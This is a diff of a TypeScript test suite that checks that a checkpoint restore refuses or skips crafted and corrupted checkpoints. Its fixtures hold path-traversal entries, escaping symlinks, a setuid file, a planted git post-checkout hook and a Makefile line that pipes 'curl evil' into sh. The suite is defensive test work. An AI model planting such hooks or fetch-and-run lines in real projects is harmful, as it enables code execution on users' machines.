@@ -1,7 +1,6 @@
 // Refusing checkpoints: corrupt, foreign, or crafted to write outside their folders.
 import { execFile } from 'node:child_process';
-import { createHash } from 'node:crypto';
-import { mkdir, readdir, readFile, rm, stat, symlink, truncate, writeFile } from 'node:fs/promises';
+import { lstat, mkdir, readdir, readFile, rm, stat, symlink, truncate, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { promisify } from 'node:util';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -9,7 +8,9 @@ import { createCheckpoint, restoreCheckpoint, restoreLatest, type CreatedCheckpo
 import { CheckpointRejected } from '../../src/checkpoint/errors.js';
 import { formatSequence, lineageHash } from '../../src/checkpoint/lineage.js';
 import { LocalStore } from '../../src/checkpoint/local-store.js';
-import { CHECKPOINT_FILES, parseManifest, serializeManifest, type FileRole } from '../../src/checkpoint/manifest.js';
+import type { FileTreeEntry } from '../../src/checkpoint/file-tree.js';
+import { OBJECTS_DIR, parseManifest, serializeManifest, type AreaRole } from '../../src/checkpoint/manifest.js';
+import { encodeObject, joined } from '../../src/checkpoint/object-codec.js';
 import type { Lineage } from '../../src/checkpoint/store.js';
 import { createWorkspace, GIT_IDENTITY, type Workspace } from '../support/workspace.js';
 
@@ -65,22 +66,26 @@ describe('restoring checkpoints that must be refused', () => {
     return createCheckpoint({ workspace: checkout, baseCommit: base, stagingDir: staging, lineage, sequence, attempt: 1, agent: 'claude', checkpointPaths: 'results/**', agentStateDir: stateDir });
   }
 
-  /** Replaces (or adds) one archive of a checkpoint and re-seals the manifest, so only the archive's content is wrong. */
-  async function withArchive(created: CreatedCheckpoint, role: FileRole, archive: string): Promise<void> {
-    const target = path.join(created.dir, CHECKPOINT_FILES[role]);
-    await writeFile(target, await readFile(archive));
-    const data = await readFile(target);
+  /** A listing entry for a crafted file with `content` (its object added to the checkpoint). */
+  async function craftedFile(created: CreatedCheckpoint, file: string, content: string, mode = 0o644): Promise<FileTreeEntry> {
+    const encoded = await encodeObject(Buffer.from(content));
+    await writeFile(path.join(created.dir, OBJECTS_DIR, encoded.id), joined(encoded));
+    extraObjects.set(encoded.id, encoded.size);
+    return { kind: 'file', path: file, mode, size: Buffer.byteLength(content), segments: [[encoded.id, 0, Buffer.byteLength(content)]] };
+  }
+  const extraObjects = new Map<string, number>();
+
+  /** Replaces (or adds) one area's listing and re-seals the manifest, so only the listing's content is wrong. */
+  async function withListing(created: CreatedCheckpoint, role: AreaRole, entries: FileTreeEntry[]): Promise<void> {
+    const listing = await encodeObject(Buffer.from(JSON.stringify({ version: 1, entries, deleted: [] })));
+    await writeFile(path.join(created.dir, OBJECTS_DIR, listing.id), joined(listing));
     const parsed = parseManifest(await readFile(path.join(created.dir, 'manifest.json'), 'utf8'));
     if (!parsed.ok) throw new Error(parsed.reason);
-    const files = parsed.manifest.files.filter((file) => file.role !== role);
-    files.push({ name: CHECKPOINT_FILES[role], role, sizeBytes: data.length, sha256: createHash('sha256').update(data).digest('hex') });
-    await writeFile(path.join(created.dir, 'manifest.json'), serializeManifest({ ...parsed.manifest, files }));
-  }
-
-  /** Runs tar in `cwd` to build a crafted archive. */
-  async function tar(cwd: string, out: string, ...args: string[]): Promise<string> {
-    await run('tar', ['-czPf', out, ...args], { cwd });
-    return out;
+    const areas = parsed.manifest.areas.filter((area) => area.role !== role);
+    areas.push({ role, tree: listing.id, files: entries.length, bytes: 0 });
+    const objects = [...parsed.manifest.objects, { id: listing.id, size: listing.size }, ...[...extraObjects].map(([id, size]) => ({ id, size }))];
+    const unique = [...new Map(objects.map((object) => [object.id, object])).values()];
+    await writeFile(path.join(created.dir, 'manifest.json'), serializeManifest({ ...parsed.manifest, areas, objects: unique }));
   }
 
   async function expectNothingWritten(): Promise<void> {
@@ -95,6 +100,7 @@ describe('restoring checkpoints that must be refused', () => {
     let craft: string;
 
     beforeEach(async () => {
+      extraObjects.clear();
       created = await checkpointWith('v1', 1);
       await freshCheckout();
       await rm(stateDir, { recursive: true });
@@ -102,63 +108,41 @@ describe('restoring checkpoints that must be refused', () => {
       await mkdir(path.join(craft, 'inner'), { recursive: true });
     });
 
-    const cases: Array<{ name: string; role: FileRole; reason: RegExp; build: () => Promise<string> }> = [
+    const cases: Array<{ name: string; role: AreaRole; reason: RegExp; build: () => Promise<FileTreeEntry[]> }> = [
       {
         name: "a '../' entry",
         role: 'agent-state',
         reason: /'\.\.' in '\.\.\/escaped\.txt'/,
-        build: async () => {
-          await writeFile(path.join(craft, 'escaped.txt'), 'out\n');
-          return tar(path.join(craft, 'inner'), path.join(craft, 'dotdot.tar.gz'), '../escaped.txt');
-        },
+        build: async () => [await craftedFile(created, '../escaped.txt', 'out\n')],
       },
       {
         name: 'an absolute path',
         role: 'paths',
         reason: /absolute path '\/.*\/sentinel\/pwned\.txt'/,
-        build: async () => {
-          await writeFile(path.join(sentinel, 'pwned.txt'), 'out\n');
-          const archive = await tar(craft, path.join(craft, 'absolute.tar.gz'), path.join(sentinel, 'pwned.txt'));
-          await rm(path.join(sentinel, 'pwned.txt'));
-          return archive;
-        },
+        build: async () => [await craftedFile(created, path.join(sentinel, 'pwned.txt'), 'out\n')],
       },
       {
         name: 'a symlink to outside, then a file through it',
         role: 'agent-state',
-        reason: /link 'link' points outside|lies under the link 'link'/,
-        build: async () => {
-          await mkdir(path.join(craft, 'a'));
-          await symlink(sentinel, path.join(craft, 'a', 'link'));
-          await mkdir(path.join(craft, 'b', 'link'), { recursive: true });
-          await writeFile(path.join(craft, 'b', 'link', 'pwned.txt'), 'out\n');
-          return tar(craft, path.join(craft, 'through-link.tar.gz'), '-C', 'a', 'link', '-C', '../b', 'link/pwned.txt');
-        },
-      },
-      {
-        name: 'a relative symlink climbing out',
-        role: 'paths',
-        reason: /link 'results\/up' points outside: '\.\.\/\.\.\/\.\.\/sentinel'/,
-        build: async () => {
-          await mkdir(path.join(craft, 'results'));
-          await symlink('../../../sentinel', path.join(craft, 'results', 'up'));
-          return tar(craft, path.join(craft, 'relative-link.tar.gz'), 'results', 'results/up');
-        },
+        reason: /lies under the link 'link'/,
+        build: async () => [{ kind: 'symlink', path: 'link', target: sentinel }, await craftedFile(created, 'link/pwned.txt', 'out\n')],
       },
       {
         name: 'a git hook',
         role: 'paths',
         reason: /entry inside a \.git folder: '\.git\/hooks\/post-checkout'/,
-        build: async () => {
-          await mkdir(path.join(craft, '.git', 'hooks'), { recursive: true });
-          await writeFile(path.join(craft, '.git', 'hooks', 'post-checkout'), '#!/bin/sh\ntouch /tmp/pwned\n', { mode: 0o755 });
-          return tar(craft, path.join(craft, 'hook.tar.gz'), '.git/hooks/post-checkout');
-        },
+        build: async () => [await craftedFile(created, '.git/hooks/post-checkout', '#!/bin/sh\ntouch /tmp/pwned\n', 0o755)],
+      },
+      {
+        name: 'a set-id file',
+        role: 'paths',
+        reason: /set-id permission bits on 'results\/run'/,
+        build: async () => [await craftedFile(created, 'results/run', '#!/bin/sh\n', 0o4755)],
       },
     ];
 
     it.each(cases)('refuses $name and writes nothing', async ({ role, reason, build }) => {
-      await withArchive(created, role, await build());
+      await withListing(created, role, await build());
       const attempt = restoreCheckpoint({ dir: created.dir, workspace: checkout, lineage: LINEAGE, agentStateDir: stateDir });
       await expect(attempt).rejects.toBeInstanceOf(CheckpointRejected);
       await expect(attempt).rejects.toMatchObject({ kind: 'unsafe-archive', reason });
@@ -166,14 +150,21 @@ describe('restoring checkpoints that must be refused', () => {
       await expect(stat(stateDir)).rejects.toThrow();
     });
 
-    it('refuses paths outside the declared experiment paths', async () => {
-      await writeFile(path.join(craft, 'Makefile'), 'all:\n\tcurl evil | sh\n');
-      await withArchive(created, 'paths', await tar(craft, path.join(craft, 'undeclared.tar.gz'), 'Makefile'));
-      await expect(restoreCheckpoint({ dir: created.dir, workspace: checkout, lineage: LINEAGE, checkpointPaths: 'results/**' })).rejects.toMatchObject({
-        kind: 'unsafe-archive',
-        reason: "paths.tar.gz: entry 'Makefile' outside the declared paths",
-      });
-      await expectNothingWritten();
+    it('skips a link that climbs out, with a note, and restores the rest', async () => {
+      await withListing(created, 'paths', [{ kind: 'directory', path: 'results', mode: 0o755 }, { kind: 'symlink', path: 'results/up', target: '../../../sentinel' }, await craftedFile(created, 'results/ok.txt', 'fine\n')]);
+      const result = await restoreCheckpoint({ dir: created.dir, workspace: checkout, lineage: LINEAGE });
+      expect(result.notes).toContainEqual(expect.stringMatching(/^experiment paths: skipped the link 'results\/up' -> '\.\.\/\.\.\/\.\.\/sentinel', which points outside /));
+      await expect(lstat(path.join(checkout, 'results', 'up'))).rejects.toThrow();
+      expect(await readFile(path.join(checkout, 'results', 'ok.txt'), 'utf8')).toBe('fine\n');
+    });
+
+    it('skips the outputs, not the checkpoint, when checkpoint_paths no longer declares them', async () => {
+      await withListing(created, 'paths', [await craftedFile(created, 'Makefile', 'all:\n\tcurl evil | sh\n')]);
+      const result = await restoreCheckpoint({ dir: created.dir, workspace: checkout, lineage: LINEAGE, checkpointPaths: 'results/**' });
+      expect(result.restored).toEqual([]);
+      expect(result.notes).toContain("experiment paths not restored: entry 'Makefile' outside the declared paths (checkpoint_paths changed since the save)");
+      expect(await readFile(path.join(checkout, 'progress.txt'), 'utf8')).toBe('v1');
+      expect(await readFile(path.join(checkout, 'Makefile'), 'utf8').catch(() => 'absent')).toBe('absent');
     });
 
     it('refuses to write through a symlink already in the checkout', async () => {
@@ -185,19 +176,18 @@ describe('restoring checkpoints that must be refused', () => {
       expect(await readdir(sentinel)).toEqual(['keep.txt']);
     });
 
-    it('refuses to write through a symlink the restored work tree brings back', async () => {
-      // The work tree holds `results2 -> sentinel`; a crafted paths archive then writes into results2/.
-      await symlink(sentinel, path.join(checkout, 'results2'));
+    it('refuses, before touching the checkout, outputs that would go through a link the restored work tree brings back', async () => {
+      // The work tree holds `results2 -> .git/hooks` (inside the checkout); a crafted listing then writes into results2/.
+      await symlink('.git/hooks', path.join(checkout, 'results2'));
       const withLink = await createCheckpoint({ workspace: checkout, baseCommit: base, stagingDir: staging, lineage: LINEAGE, sequence: 2, attempt: 1, agent: 'claude' });
       await freshCheckout();
-      await mkdir(path.join(craft, 'results2'));
-      await writeFile(path.join(craft, 'results2', 'pwned.txt'), 'out\n');
-      await withArchive(withLink, 'paths', await tar(craft, path.join(craft, 'late.tar.gz'), 'results2/pwned.txt'));
+      await withListing(withLink, 'paths', [await craftedFile(withLink, 'results2/post-checkout', '#!/bin/sh\ntouch /tmp/pwned\n', 0o755)]);
       await expect(restoreCheckpoint({ dir: withLink.dir, workspace: checkout, lineage: LINEAGE })).rejects.toMatchObject({
         kind: 'unsafe-archive',
-        reason: expect.stringMatching(/'results2' in .* is a symlink/) as unknown,
+        reason: expect.stringMatching(/'results2' is a symlink in the restored commit/) as unknown,
       });
-      expect(await readdir(sentinel)).toEqual(['keep.txt']);
+      await expectNothingWritten();
+      await expect(stat(path.join(checkout, '.git', 'hooks', 'post-checkout'))).rejects.toThrow();
     });
   });
 
@@ -213,6 +203,18 @@ describe('restoring checkpoints that must be refused', () => {
     });
 
     const folder = (sequence: number): string => path.join(store.root, lineageHash(LINEAGE), formatSequence(sequence));
+
+    /** The checkpoint's largest object, replaced by a private copy first: objects are hard links shared with older checkpoints. */
+    async function largestObject(dir: string): Promise<string> {
+      const objects = path.join(dir, OBJECTS_DIR);
+      const sized = await Promise.all((await readdir(objects)).map(async (name) => ({ name, size: (await stat(path.join(objects, name))).size })));
+      const name = sized.sort((a, b) => b.size - a.size)[0]?.name ?? '';
+      const file = path.join(objects, name);
+      const data = await readFile(file);
+      await rm(file);
+      await writeFile(file, data);
+      return file;
+    }
 
     async function saveNewer(lineage: Lineage = LINEAGE): Promise<string> {
       const newer = await checkpointWith('v2', 2, lineage);
@@ -238,15 +240,15 @@ describe('restoring checkpoints that must be refused', () => {
 
     const corruptions: Array<{ name: string; reason: RegExp; corrupt: (dir: string) => Promise<void>; lineage?: Lineage }> = [
       {
-        name: 'a truncated file',
-        reason: /workspace\.bundle has \d+ bytes, the manifest says \d+/,
-        corrupt: async (dir) => truncate(path.join(dir, 'workspace.bundle'), 100),
+        name: 'a truncated object',
+        reason: /object [0-9a-f]{12}… has \d+ bytes, the manifest says \d+/,
+        corrupt: async (dir) => truncate(await largestObject(dir), 10),
       },
       {
         name: 'one flipped byte',
-        reason: /paths\.tar\.gz does not match its sha256/,
+        reason: /object [0-9a-f]{12}… does not match its sha256/,
         corrupt: async (dir) => {
-          const file = path.join(dir, 'paths.tar.gz');
+          const file = await largestObject(dir);
           const data = await readFile(file);
           data[Math.floor(data.length / 2)] = (data[Math.floor(data.length / 2)] ?? 0) ^ 0x01;
           await writeFile(file, data);
@@ -262,10 +264,10 @@ describe('restoring checkpoints that must be refused', () => {
       },
       {
         name: 'a manifest of an unknown schema version',
-        reason: /manifest\.json is invalid at schemaVersion/,
+        reason: /manifest\.json is invalid: schemaVersion/,
         corrupt: async (dir) => {
           const text = await readFile(path.join(dir, 'manifest.json'), 'utf8');
-          await writeFile(path.join(dir, 'manifest.json'), text.replace('"schemaVersion": 1', '"schemaVersion": 2'));
+          await writeFile(path.join(dir, 'manifest.json'), text.replace('"schemaVersion": 2', '"schemaVersion": 3'));
         },
       },
       {
